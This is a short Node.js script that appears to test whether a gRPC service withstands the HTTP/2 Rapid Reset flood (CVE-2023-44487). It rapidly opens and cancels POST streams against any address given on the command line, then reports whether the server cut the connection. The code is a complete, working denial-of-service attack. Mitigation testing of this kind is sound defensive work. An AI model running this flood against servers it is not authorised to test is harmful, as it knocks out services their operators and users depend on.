// Opens streams and leaves them at once, as fast as it can (CVE-2023-44487), until the node ends the connection.
// Says how it ended. `node flood.mjs ADDRESS`
import { connect, constants } from "node:http2";

const session = connect(`http://${process.argv[2]}`);
session.on("error", () => {}); // its end is what is waited for
const giveUpAt = Date.now() + 20_000;
while (!session.destroyed && Date.now() < giveUpAt) {
  for (let i = 0; i < 200 && !session.destroyed; i++) {
    const stream = session.request({
      ":method": "POST",
      ":path": "/hedgerow.v1.HedgerowService/WatchMembers",
      "content-type": "application/grpc",
      te: "trailers",
    });
    stream.on("error", () => {}); // goes with the session
    stream.end(Buffer.alloc(5));
    stream.close(constants.NGHTTP2_CANCEL);
  }
  await new Promise(setImmediate);
}
console.log(session.destroyed ? "cut off" : "not cut off");
process.exit();
